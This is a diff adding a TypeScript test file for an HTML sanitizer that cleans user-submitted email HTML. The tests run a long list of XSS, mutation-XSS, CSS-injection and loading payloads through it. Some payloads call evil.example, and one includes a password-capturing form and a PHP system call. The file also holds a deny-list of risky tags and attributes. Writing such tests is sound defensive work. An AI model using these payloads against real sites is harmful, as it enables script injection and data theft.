@@ -1,0 +1,196 @@
+import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
+import { cleanHtml, htmlProblem, textOf } from '../../../server/src/submissions/html';
+
+type Node = DefaultTreeAdapterMap['node'];
+type Element = DefaultTreeAdapterMap['element'];
+
+/** Every element, as a browser's parser sees it. */
+const elementsOf = (html: string): Element[] => {
+  const found: Element[] = [];
+  const walk = (node: Node): void => {
+    if ('tagName' in node) found.push(node);
+    if ('content' in node) walk(node.content);
+    if ('childNodes' in node) node.childNodes.forEach(walk);
+  };
+  walk(parseFragment(html));
+  return found;
+};
+
+const RUNS_OR_LOADS = [
+  ...['script', 'style', 'link', 'meta', 'base', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form'],
+  ...[
+    'input',
+    'button',
+    'select',
+    'textarea',
+    'svg',
+    'math',
+    'template',
+    'audio',
+    'video',
+    'source',
+    'track',
+    'portal',
+  ],
+  ...['noscript', 'html', 'head', 'body', 'title', 'marquee', 'isindex', 'xml', 'bgsound', 'layer', 'image', 'picture'],
+];
+
+/** What an attribute may point to, by element. */
+const TARGETS: Record<string, RegExp> = {
+  'a href': /^(?:https?:\/\/|mailto:|tel:)/i,
+  'img src': /^(?:https:\/\/|cid:)/i,
+};
+
+/** What a browser would run, load or move out of its place. */
+const problemsOf = (html: string): string[] =>
+  elementsOf(html).flatMap(({ tagName, attrs }) => [
+    ...(RUNS_OR_LOADS.includes(tagName) ? [tagName] : []),
+    ...attrs.flatMap(({ name, value }) => {
+      const at = `${tagName} ${name}`;
+      if (name in { href: 1, src: 1 }) return TARGETS[at]?.test(value) ? [] : [`${at}=${value}`];
+      if (name === 'style')
+        return /url|expression|import|behavior|binding|position|z-index|@|\\|\/\*|javascript/i.test(value)
+          ? [`${at}=${value}`]
+          : [];
+      return /^(?:on|srcset|srcdoc|action|formaction|data|background|poster|xlink|http-equiv|id|class)/.test(name)
+        ? [at]
+        : [];
+    }),
+  ]);
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1);//<</script>',
+  '<script\n>alert(1)</script\t>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" OnError = "alert(1)">',
+  '<img/src="x"/onerror=alert(1)>',
+  '<img """><script>alert(1)</script>">',
+  '<img src=javascript:alert(1)>',
+  '<img src="jav&#x09;ascript:alert(1)">',
+  '<img src="http://evil.example/pixel.png">',
+  '<img src="//evil.example/pixel.png">',
+  '<img src="/admin/logout">',
+  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PjE8L3NjcmlwdD48L3N2Zz4=">',
+  '<img srcset="http://evil.example/a 1x" src="https://club.example/a.png">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
+  '<a href="java\u0000script:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="http://evil.example/x.swf"></object><embed src="x">',
+  '<link rel=stylesheet href="http://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
+  '<base href="http://evil.example/">',
+  '<form action="http://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
+  '<body onload=alert(1) background="http://evil.example/x.png">x</body>',
+  '<video poster="http://evil.example/x"><source onerror=alert(1) src=x></video>',
+  '<table background="http://evil.example/x.png"><td background="javascript:alert(1)">x</td></table>',
+  '<style>@import "http://evil.example/x.css"; p { background: url(http://evil.example/x) }</style><p>x</p>',
+  '<style>p{position:fixed;inset:0;z-index:99}</style><p>x</p>',
+  '<style>p{behavior:url(x.htc);-moz-binding:url(x)}</style><p>x</p>',
+  '<p style="background-image:url(http://evil.example/x)">x</p>',
+  '<p style="background:\\75rl(http://evil.example/x)">x</p>',
+  '<p style="color:u/**/rl(http://evil.example/x)">x</p>',
+  '<p style="width:expression(alert(1))">x</p>',
+  '<p style="font-family:\'a\';background:url(x)">x</p>',
+  '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
+  '<p style="list-style-image:url(x);cursor:url(x);content:url(x)">x</p>',
+  '<p id="__proto__" class="x" contenteditable>x</p>',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><?php system("id") ?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+  '<a name="x" href="https://ok.example/"><img src="https://ok.example/x.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></a>',
+  '<plaintext><script>alert(1)</script>',
+  '</body></html><script>alert(1)</script>',
+  '<div'.repeat(1000),
+  '<p style="' + 'color:red;'.repeat(5000) + '">x',
+];
+
+describe('HTML that somebody hands in', () => {
+  it.each(HOSTILE)('can neither run, load nor leave its place: %j', (html) => {
+    const cleaned = cleanHtml(html);
+    expect(problemsOf(cleaned)).toEqual([]);
+    expect(cleaned).not.toMatch(/<!|<\?/);
+    // Cleaned again it is the same: nothing was hidden in it that comes out when it is read once more.
+    expect(cleanHtml(cleaned)).toBe(cleaned);
+  });
+
+  it('is checked by something that finds what it looks for', () => {
+    const harmless = ['<textarea>', '<div', '<p id', '<![CDATA', '</body>', '<title>', '<xmp>'];
+    for (const html of HOSTILE.slice(0, 30))
+      if (!harmless.some((start) => html.startsWith(start)))
+        expect([html, problemsOf(html).length + Number(/<scr<|<<|jav&#x09;|<!--/.test(html)) > 0]).toEqual([
+          html,
+          true,
+        ]);
+  });
+
+  it('keeps what people write', () => {
+    const written =
+      '<h1>Grüße</h1><p style="text-align:center">Hello <strong>you</strong>, <em>and</em> <u>you</u></p>' +
+      '<ul><li>one</li><li><a href="https://club.example/?a=1&amp;b=2">two</a></li></ul>' +
+      '<blockquote>said</blockquote><p><img src="cid:logo@club.example" alt="Logo" width="40" /></p>' +
+      '<table border="1"><tbody><tr><td colspan="2" align="right">3</td></tr></tbody></table>';
+    expect(cleanHtml(written)).toBe(written);
+  });
+
+  it('has its style sheet on the elements, because mail programs read no other', () => {
+    expect(cleanHtml('<style>p { color: red } .big { font-size: 20px }</style><p class="big">x</p>')).toBe(
+      '<p style="color:red;font-size:20px">x</p>'
+    );
+  });
+
+  it.each([
+    ['too much of it', `<style>${'a{color:red}'.repeat(10_000)}</style><p>x</p>`],
+    ['too much for so many elements', `<style>${'a{color:red}'.repeat(3000)}</style>${'<p>x</p>'.repeat(1000)}`],
+    ['none that anybody reads', '<style>p{{{color:</style><p>x</p>'],
+  ])('goes without its style sheet: %s', (_what, html) => expect(cleanHtml(html)).toMatch(/^(?:<p>x<\/p>)+$/));
+
+  it.each([
+    ['never closed', '<div>'.repeat(200_000), 'is nested too deeply'],
+    ['in each other', `${'<b>'.repeat(500)}x${'</b>'.repeat(500)}`, 'is nested too deeply'],
+    ['in one list', `<ul>${'<li>x'.repeat(200_000)}`, 'has too many elements'],
+    ['one after the other', '<p>x</p>'.repeat(20_000), null],
+    ['as deep as mail gets', `${'<table><tr><td>'.repeat(40)}x`, null],
+  ])('with elements %s: is it refused?', (_what, html, problem) => expect(htmlProblem(html)).toBe(problem));
+});
+
+describe('the text for who reads no HTML', () => {
+  it('says the same', () => {
+    expect(
+      textOf(
+        '<h1>News</h1><p>Hello <b>Ada</b> &amp; Ben,</p><ul><li>one</li><li><a href="https://club.example/">two</a></li></ul>' +
+          '<p><a href="https://club.example/">https://club.example/</a> <img src="cid:x" alt="Logo"></p><blockquote>said</blockquote>'
+      )
+    ).toBe(
+      'News\n\nHello Ada & Ben,\n\n * one\n * two [https://club.example/]\n\nhttps://club.example/ [Logo]\n\n> said'
+    );
+  });
+
+  it('has lines that are not too long', () => {
+    const lines = textOf(`<p>${'word '.repeat(100)}</p>`).split('\n');
+    expect(lines.length).toBeGreaterThan(5);
+    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(78);
+  });
+});
